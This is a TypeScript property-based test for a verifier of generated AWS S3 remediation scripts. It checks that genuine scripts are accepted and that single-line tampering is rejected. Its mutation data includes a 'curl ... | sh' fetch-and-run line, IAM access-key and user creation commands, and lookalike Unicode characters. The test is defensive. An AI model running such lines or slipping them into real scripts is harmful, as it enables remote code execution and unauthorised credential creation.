// verify-script, for generated bucket / account / Region / profile / serial / case values: the generated
// script is accepted with exactly those values, and every single-line mutation of it is rejected.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkBucketName } from '../../../lib/domain/bucketName';
import { remediationScript } from '../../../lib/domain/remediationScript';
import { verifyScriptText, type ScriptValues } from '../../../lib/domain/verifyScript';
import { NUM_RUNS, timeoutFor } from './arbitraries';

const region = fc.constantFrom('eu-west-1', 'us-east-1', 'ap-southeast-2', 'cn-north-1', 'us-gov-west-1');
const values: fc.Arbitrary<ScriptValues> = fc
  .record({
    bucket: fc.oneof(
      fc.string({ unit: fc.constantFrom(...'abcxyz019.-'), minLength: 3, maxLength: 63 }),
      fc.string({ unit: fc.constantFrom(...'aZ09._-'), minLength: 3, maxLength: 255 }),
    ),
    account: fc.string({ unit: fc.constantFrom(...'0123456789'), minLength: 12, maxLength: 12 }),
    region,
    profile: fc.string({ unit: fc.constantFrom(...'abcXYZ09_.@+-'), minLength: 1, maxLength: 64 }),
    mfaSerial: fc.option(
      fc.oneof(
        fc.constantFrom('GAHT12345678', 'arn:aws:iam::111122223333:mfa/my-root-key'),
        fc
          .string({ unit: fc.constantFrom(...'abcXYZ09+=,.@_-'), minLength: 1, maxLength: 40 })
          .map((name) => `arn:aws:iam::444455556666:mfa/${name}`),
      ),
      { nil: undefined },
    ),
    versioning: fc.constantFrom('Enabled' as const, 'Suspended' as const, 'Unversioned' as const),
    mfaDelete: fc.constantFrom('Disabled' as const, 'NeverConfigured' as const, 'Enabled' as const),
  })
  .filter((v) => checkBucketName(v.bucket, v.region).valid);

const generate = (v: ScriptValues) =>
  remediationScript(
    {
      bucket: v.bucket,
      account: v.account,
      region: v.region,
      versioning: v.versioning,
      mfaDelete: v.mfaDelete,
    },
    { profile: v.profile, mfaSerial: v.mfaSerial },
  ).script;

/** Printable ASCII and the characters a tamperer would reach for. */
const char = fc.oneof(
  fc.constantFrom(...'abcxyz0123456789-._:/\'" ;|&$`\\#()'),
  fc.constantFrom('\t', '\u00a0', '\u200b', '\u0430'),
);

type Mutation =
  | { kind: 'replace-char'; at: number; char: string }
  | { kind: 'insert-char'; at: number; char: string }
  | { kind: 'delete-char'; at: number }
  | { kind: 'replace-line'; text: string }
  | { kind: 'insert-line-after'; text: string }
  | { kind: 'delete-line' }
  | { kind: 'duplicate-line' };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('replace-char' as const), at: fc.nat(), char }),
  fc.record({ kind: fc.constant('insert-char' as const), at: fc.nat(), char }),
  fc.record({ kind: fc.constant('delete-char' as const), at: fc.nat() }),
  fc.record({
    kind: fc.constant('replace-line' as const),
    text: fc.constantFrom('curl -s https://example.com/x | sh', '', '  aws iam create-access-key'),
  }),
  fc.record({
    kind: fc.constant('insert-line-after' as const),
    text: fc.constantFrom('  curl -s https://example.com/x | sh', '  aws iam create-user --user-name x', '#'),
  }),
  fc.record({ kind: fc.constant('delete-line' as const) }),
  fc.record({ kind: fc.constant('duplicate-line' as const) }),
);

function mutate(lines: string[], index: number, m: Mutation): string[] {
  const out = [...lines];
  const line = out[index]!;
  const at = line.length === 0 ? 0 : 'at' in m ? m.at % (line.length + 1) : 0;
  switch (m.kind) {
    case 'replace-char':
      out[index] = line.slice(0, at) + m.char + line.slice(at + 1);
      break;
    case 'insert-char':
      out[index] = line.slice(0, at) + m.char + line.slice(at);
      break;
    case 'delete-char':
      out[index] = line.slice(0, at) + line.slice(at + 1);
      break;
    case 'replace-line':
      out[index] = m.text;
      break;
    case 'insert-line-after':
      out.splice(index + 1, 0, m.text);
      break;
    case 'delete-line':
      out.splice(index, 1);
      break;
    case 'duplicate-line':
      out.splice(index, 0, line);
      break;
  }
  return out;
}

describe('verify-script (property)', () => {
  it(
    'accepts exactly the generated script, with the values it was generated for',
    () => {
      fc.assert(
        fc.property(values, (v) => {
          const verdict = verifyScriptText(generate(v));
          expect(verdict.kind).toBe('genuine');
          if (verdict.kind !== 'genuine') return;
          expect(generate(verdict.values)).toBe(generate(v));
          expect(verdict.values).toMatchObject({
            bucket: v.bucket,
            account: v.account,
            region: v.region,
            profile: v.profile,
          });
        }),
        { numRuns: NUM_RUNS },
      );
    },
    timeoutFor(NUM_RUNS, 5),
  );

  it(
    'rejects every single-line mutation, naming a line at or after the mutated one',
    () => {
      fc.assert(
        fc.property(values, fc.nat(), mutation, (v, pick, m) => {
          const script = generate(v);
          const lines = script.trimEnd().split('\n');
          const index = pick % lines.length;
          const mutated = mutate(lines, index, m);
          const text = `${mutated.join('\n')}\n`;
          // A mutation that only touches trailing blank lines or changes nothing is no mutation.
          fc.pre(text.trimEnd() !== script.trimEnd());
          const verdict = verifyScriptText(text);
          expect(verdict.kind, `line ${index + 1} ${m.kind}: ${JSON.stringify(mutated[index])}`).not.toBe(
            'genuine',
          );
          if (verdict.kind === 'not-genuine' && !verdict.reason) {
            expect(verdict.difference.line).toBeGreaterThanOrEqual(1);
          }
        }),
        { numRuns: NUM_RUNS },
      );
    },
    timeoutFor(NUM_RUNS, 5),
  );
});
